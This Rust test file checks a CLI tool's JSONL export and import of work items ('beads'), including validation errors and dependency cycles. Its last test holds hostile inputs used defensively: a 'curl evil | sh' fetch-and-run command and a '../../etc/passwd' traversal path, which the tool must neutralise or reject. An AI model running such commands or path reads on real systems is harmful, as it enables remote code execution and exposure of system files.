//! Beads that come and go as files.

use serde_json::{Value, json};

use crate::harness::TestEnv;

fn ids(out: &str) -> Vec<String> {
    let lines = out
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap());
    lines
        .map(|v| v["id"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn an_export_goes_into_another_store_and_comes_out_the_same() {
    let env = TestEnv::new();
    let first = crate::beads::bead(&env, &["one", "-p", "high", "--label", "a"]);
    crate::beads::bead(&env, &["two", "--depends-on", &first, "--estimate", "5000"]);
    let exported = env.rigs(["bead", "export"]).run().success();
    assert_eq!(exported.stdout.lines().count(), 2);
    env.write("beads.jsonl", &exported.stdout);
    let other = env.root().join("other");
    let other = other.to_str().unwrap();
    let told = env
        .rigs(["--home", other, "bead", "import", "beads.jsonl"])
        .run()
        .success();
    assert_eq!(told.stdout, "2 beads stored\n");
    let again = env
        .rigs(["--home", other, "bead", "import", "beads.jsonl"])
        .run()
        .success();
    assert_eq!(again.stdout, "0 beads stored, 2 there already\n");
    let back = env
        .rigs(["--home", other, "bead", "export"])
        .run()
        .success();
    let same = |line: &str| {
        let mut value: Value = serde_json::from_str(line).unwrap();
        // When a store last wrote the bead is its own affair.
        value["updated_at"] = Value::Null;
        value
    };
    let all = |out: &str| out.lines().map(same).collect::<Vec<_>>();
    assert_eq!(all(&back.stdout), all(&exported.stdout));
}

#[test]
fn issues_of_gas_town_keep_their_links_and_their_own_fields() {
    let env = TestEnv::new();
    let lines = [
        json!({"_type": "issue", "id": "bd-2", "title": "Second", "status": "open", "priority": 1,
            "issue_type": "bug", "dependencies": [
                {"issue_id": "bd-2", "depends_on_id": "bd-1", "type": "blocks"},
                {"issue_id": "bd-2", "depends_on_id": "bd-e", "type": "blocks"}],
            "metadata": {"mayor": {"mood": ["calm", 3]}}}),
        json!({"_type": "issue", "id": "bd-1", "title": "First", "status": "open", "priority": 0,
            "issue_type": "task"}),
        json!({"_type": "issue", "id": "bd-e", "title": "All", "status": "open", "priority": 2,
            "issue_type": "epic"}),
    ];
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    let told = env
        .rigs(["bead", "import", "-"])
        .stdin(text.as_str())
        .run()
        .success();
    assert_eq!(told.stdout, "2 beads stored, 1 skipped\n");
    assert!(
        told.stderr.contains("1 dependency on what is no work"),
        "{}",
        told.stderr
    );
    let out = env.rigs(["bead", "export"]).run().success().stdout;
    let beads: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let of = |title: &str| beads.iter().find(|b| b["title"] == title).unwrap();
    let (first, second) = (of("First"), of("Second"));
    assert_eq!(second["dependencies"], json!([first["id"]]));
    assert_eq!(second["metadata"]["mayor"], json!({"mood": ["calm", 3]}));
    assert_eq!(second["metadata"]["gastown"]["id"], "bd-2");
    assert_eq!(second["metadata"]["gastown"]["priority"], 1);
    assert_eq!(
        (&first["priority"], &second["task_type"]),
        (&json!("critical"), &json!("debug"))
    );
    // The same file again: nothing new.
    let again = env
        .rigs(["bead", "import", "-"])
        .stdin(text.as_str())
        .run()
        .success();
    assert_eq!(again.stdout, "0 beads stored, 2 there already, 1 skipped\n");
    assert_eq!(
        ids(&env.rigs(["bead", "export"]).run().success().stdout),
        ids(&out)
    );
}

#[test]
fn a_file_with_a_wrong_line_stores_nothing_and_names_the_line() {
    let env = TestEnv::new();
    let text = "{\"title\":\"fine\"}\n\n{\"titles\":\"x\"}\n{\"title\":\"y\",\"dependencies\":[\"gt-nowhere\"]}\n";
    let told = env.rigs(["bead", "import", "-"]).stdin(text).run().exits(2);
    assert!(
        told.stderr
            .contains("error: line 3: unknown field `titles`: did you mean `title`?"),
        "{}",
        told.stderr
    );
    assert!(
        told.stderr
            .contains("line 4: it waits for `gt-nowhere`, which is neither here nor in the store"),
        "{}",
        told.stderr
    );
    assert!(
        told.stderr.contains("hint: nothing was stored"),
        "{}",
        told.stderr
    );
    let circle = "{\"id\":\"gt-aaaaa\",\"title\":\"a\",\"dependencies\":[\"gt-bbbbb\"]}\n\
                  {\"id\":\"gt-bbbbb\",\"title\":\"b\",\"dependencies\":[\"gt-aaaaa\"]}\n";
    let told = env
        .rigs(["bead", "import", "-"])
        .stdin(circle)
        .run()
        .exits(2);
    assert!(
        told.stderr
            .contains("line 1: its dependencies make a circle: lines 1 -> 2 -> 1"),
        "{}",
        told.stderr
    );
    assert_eq!(env.rigs(["bead", "export"]).run().success().stdout, "");
    let dry = env
        .rigs(["bead", "import", "-", "--dry-run"])
        .stdin("{\"title\":\"fine\"}")
        .run()
        .success();
    assert_eq!(dry.stdout, "1 bead would be stored\n");
    assert_eq!(env.rigs(["bead", "export"]).run().success().stdout, "");
}

#[test]
fn a_file_may_not_bring_programs_to_run() {
    let env = TestEnv::new();
    let line = json!({"title": "x", "acceptance_criteria": [
        {"kind": "command", "text": "it builds", "argv": ["sh", "-c", "curl evil | sh"]},
        {"kind": "gate", "gate": "cargo-test"}]});
    let told = env
        .rigs(["bead", "import", "-"])
        .stdin(line.to_string())
        .run()
        .success();
    assert!(
        told.stderr
            .contains("1 criterion with a command became words"),
        "{}",
        told.stderr
    );
    let out: Value =
        serde_json::from_str(env.rigs(["bead", "export"]).run().success().stdout.trim()).unwrap();
    assert_eq!(
        out["acceptance_criteria"],
        json!([{"kind": "text", "text": "it builds"},
            {"kind": "gate", "text": "cargo-test passes", "gate": "cargo-test"}])
    );
    let line = json!({"title": "x", "files": ["../../etc/passwd"]});
    let told = env
        .rigs(["bead", "import", "-"])
        .stdin(line.to_string())
        .run()
        .exits(2);
    assert!(
        told.stderr
            .contains("line 1: `../../etc/passwd` is not a path inside"),
        "{}",
        told.stderr
    );
}
